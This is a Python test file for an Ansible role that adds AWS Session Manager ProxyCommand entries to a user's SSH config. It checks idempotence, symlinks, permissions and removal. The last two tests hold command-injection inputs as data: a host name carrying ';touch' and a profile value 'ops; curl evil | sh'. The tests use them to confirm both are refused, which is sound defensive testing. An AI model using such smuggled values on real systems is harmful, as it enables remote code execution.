"""The ssm_ssh_config role, run by ansible-playbook on localhost with a temporary HOME, and
judged by OpenSSH itself: `ssh -G` shows what ssh would do for a host, and a real `ssh i-...`
runs the ProxyCommand (a stand-in `aws` records its arguments, as the real CLI would receive them).
"""

import os
import stat
import subprocess
import textwrap

ROLE = """
- hosts: localhost
  gather_facts: false
  roles:
    - role: ironclad.aws.ssm_ssh_config
{vars}
"""
INSTANCE = "i-0123456789abcdef0"
# An operator's config: Windows line ends, comments, a global option before any Host line.
ORIGINAL = (
    b"# my settings\r\n"
    b"ServerAliveInterval 42\r\n"
    b"\r\n"
    b"Host bastion\r\n"
    b"    HostName 10.0.0.1\r\n"
    b"    User alice\r\n"
    b"# trailing comment without newline"
)


def role(**variables):
    lines = "".join(f"      {k}: {v!r}\n" if isinstance(v, str) else f"      {k}: {v}\n" for k, v in variables.items())
    return ROLE.format(vars=("      vars:\n" + textwrap.indent(lines, "  ")) if variables else "")


def ssh_g(config, host):
    out = subprocess.run(["ssh", "-F", str(config), "-G", host], capture_output=True, text=True, check=True).stdout
    return dict(line.split(" ", 1) for line in out.splitlines() if " " in line)


def without_block(data: bytes) -> bytes:
    begin, end = data.index(b"# BEGIN ironclad.aws.ssm_ssh_config"), data.index(b"# END ironclad.aws.ssm_ssh_config")
    return data[:begin] + data[data.index(b"\n", end) + 1 :]


def test_i_hosts_go_through_session_manager_and_the_rest_of_the_file_stays(run_playbook, tmp_path):
    home = tmp_path / "home"
    config = home / ".ssh" / "config"
    config.parent.mkdir(parents=True)
    config.write_bytes(ORIGINAL)
    # Before: ssh would look the instance id up in DNS and connect to its port 22.
    assert "proxycommand" not in ssh_g(config, INSTANCE)

    tasks = role(ssm_ssh_config_profile="ops", ssm_ssh_config_region="eu-west-1", ssm_ssh_config_user="admin")
    first = run_playbook(tasks, extra_env={"HOME": str(home)})
    assert first.rc == 0, first.stdout + first.stderr
    options = ssh_g(config, INSTANCE)
    assert options["proxycommand"] == (
        "aws ssm start-session --target %h --document-name AWS-StartSSHSession"
        " --parameters portNumber=%p --profile ops --region eu-west-1"
    )
    assert options["user"] == "admin"
    assert "proxycommand" in ssh_g(config, "mi-0123456789abcdef0")
    # Everything else means what it meant: the global option still reaches every host.
    bastion = ssh_g(config, "bastion")
    assert "proxycommand" not in bastion
    assert bastion["hostname"] == "10.0.0.1" and bastion["user"] == "alice"
    assert bastion["serveraliveinterval"] == "42" and options["serveraliveinterval"] == "42"
    data = config.read_bytes()
    assert without_block(data) == ORIGINAL
    assert stat.S_IMODE(config.stat().st_mode) == 0o600

    second = run_playbook(tasks, extra_env={"HOME": str(home)})
    assert second.rc == 0 and '"changed": true' not in second.stdout
    assert config.read_bytes() == data

    gone = run_playbook(role(ssm_ssh_config_state="absent"), extra_env={"HOME": str(home)})
    assert gone.rc == 0, gone.stdout + gone.stderr
    assert config.read_bytes() == ORIGINAL


def test_a_symlinked_config_is_edited_at_its_target(run_playbook, tmp_path):
    home = tmp_path / "home"
    dotfiles = tmp_path / "dotfiles"
    (home / ".ssh").mkdir(parents=True)
    dotfiles.mkdir()
    (dotfiles / "ssh_config").write_bytes(b"Host *\n    ForwardAgent no\n")
    link = home / ".ssh" / "config"
    link.symlink_to(dotfiles / "ssh_config")
    result = run_playbook(role(), extra_env={"HOME": str(home)})
    assert result.rc == 0, result.stdout + result.stderr
    assert link.is_symlink()
    assert b"ProxyCommand aws ssm start-session" in (dotfiles / "ssh_config").read_bytes()
    assert without_block((dotfiles / "ssh_config").read_bytes()) == b"Host *\n    ForwardAgent no\n"
    assert "proxycommand" in ssh_g(link, INSTANCE)


def test_a_fresh_home_gets_its_ssh_folder_and_check_mode_writes_nothing(run_playbook, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    check = run_playbook(role(), extra_env={"HOME": str(home)}, check=True)
    assert check.rc == 0, check.stdout + check.stderr
    assert not (home / ".ssh").exists()
    result = run_playbook(role(), extra_env={"HOME": str(home)})
    assert result.rc == 0, result.stdout + result.stderr
    assert stat.S_IMODE((home / ".ssh").stat().st_mode) == 0o700
    assert stat.S_IMODE((home / ".ssh" / "config").stat().st_mode) == 0o600
    assert "proxycommand" in ssh_g(home / ".ssh" / "config", INSTANCE)


def test_ssh_runs_the_session_manager_command_and_no_injected_one(run_playbook, tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    record = tmp_path / "aws-args"
    fake_aws = tmp_path / "bin" / "aws"
    fake_aws.parent.mkdir()
    fake_aws.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > {record}\nexit 1\n')
    fake_aws.chmod(0o755)
    result = run_playbook(
        role(ssm_ssh_config_aws_command=str(fake_aws), ssm_ssh_config_region="eu-west-1"),
        extra_env={"HOME": str(home)},
    )
    assert result.rc == 0, result.stdout + result.stderr
    config = home / ".ssh" / "config"
    ssh = ["ssh", "-F", str(config), "-o", "BatchMode=yes", "-o", "ConnectTimeout=10"]
    subprocess.run([*ssh, "-p", "2222", INSTANCE, "true"], capture_output=True, timeout=60, check=False)
    assert record.read_text().split("\n")[:-1] == [
        "ssm", "start-session", "--target", INSTANCE, "--document-name", "AWS-StartSSHSession",
        "--parameters", "portNumber=2222", "--region", "eu-west-1",
    ]  # fmt: skip
    # A host name built to break out of the ProxyCommand's shell (a pasted link, a git remote):
    # i-* matches it, and OpenSSH's own check of %h is what refuses it (Debian 12's 9.2p1 has it).
    record.unlink()
    pwned = tmp_path / "pwned"
    proc = subprocess.run([*ssh, f"i-0;touch {pwned}", "true"], capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode != 0 and not pwned.exists()
    assert "hostname contains invalid characters" in proc.stderr
    assert not record.exists() or f"touch {pwned}" not in record.read_text()


def test_options_that_would_break_the_command_line_are_refused(run_playbook, tmp_path):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    config = home / ".ssh" / "config"
    config.write_bytes(ORIGINAL)
    result = run_playbook(role(ssm_ssh_config_profile="ops; curl evil | sh"), extra_env={"HOME": str(home)})
    assert result.rc != 0
    assert "nothing was changed" in result.stdout and "ops; curl evil | sh" in result.stdout
    assert config.read_bytes() == ORIGINAL
    assert os.listdir(home / ".ssh") == ["config"]
